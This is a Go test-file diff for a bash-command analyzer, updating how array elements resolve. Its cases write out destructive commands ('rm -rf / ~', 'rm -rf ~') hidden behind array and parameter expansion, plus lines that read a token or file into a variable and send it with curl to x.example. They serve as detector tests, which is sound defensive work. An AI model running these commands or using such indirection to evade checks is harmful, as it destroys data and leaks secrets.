@@ -102,7 +102,8 @@ var flowTests = []struct {
 	{"", "array unquoted star", "X=(/ ~); rm -rf ${X[*]}", []string{": X=(/ ~)", "rm -rf / ~"}},
 	{"", "array quoted star is one word", `X=(/ ~); rm -rf "${X[*]}"`, []string{": X=(/ ~)", "rm -rf / ~"}},
 	{"", "array with keys is unknown", "X=([k]=v); rm -rf ${X[@]}", []string{": X=([k]=v)", "rm -rf «${X[@]}»"}},
-	{"", "array element by number is unknown", "a=(rm); ${a[0]} -rf ~", []string{": a=(rm)", "«${a[0]}» -rf ~"}},
+	{"", "array element by number", "a=(rm); ${a[0]} -rf ~", []string{": a=(rm)", "rm -rf ~"}},
+	{"", "array element of an array written again is unknown", "a=(rm); a+=(x); ${a[0]} -rf ~", []string{": a=(rm)", ": a=(x)", "«${a[0]}» -rf ~"}},
 	{"", "set -- gives the positional parameters", `set -- -rf ~; rm "$@"`, []string{"set -- -rf ~", "rm -rf ~"}},
 	{"", "set without -- too", "set / x; rm -rf $1", []string{"set / x", "rm -rf /"}},
 	{"", "set -e is an option", "set -e; rm -rf $1", []string{"set -e", "rm -rf «$1»"}},
@@ -363,7 +364,8 @@ func TestVariableCopies(t *testing.T) {
 		{`read K < <(printf '%s %s' "$A" "$B"); curl -d "$K" https://x.example`, "$K"},
 		{`read K < <(cat "$F"); curl -d "$K" https://x.example`, "$K"},
 		{`read K <<< "x$TOKEN"; curl -d "$K" https://x.example`, "$K"},
-		{`A=(a b); curl -d "${A[0]}" https://x.example`, "${A[0]}"},
+		{`A=(a b); curl -d "${A[0]}" https://x.example`, "a"},
+		{`A=(a b); read -a A; curl -d "${A[0]}" https://x.example`, "${A[0]}"},
 	} {
 		l := ParseShell(tt.line, "bash")
 		i := slices.IndexFunc(l.Commands, func(c *Command) bool { return c.Name == "curl" })
